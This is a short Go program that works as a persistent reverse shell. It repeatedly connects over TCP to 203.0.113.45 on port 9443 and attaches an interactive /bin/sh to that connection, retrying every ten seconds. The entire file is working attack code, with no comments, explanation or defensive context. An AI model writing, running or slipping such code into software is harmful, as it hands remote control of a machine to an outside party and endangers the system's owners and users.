package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.45:9443")
		if err != nil {
			time.Sleep(10 * time.Second)
			continue
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		_ = cmd.Run()
		c.Close()
	}
}
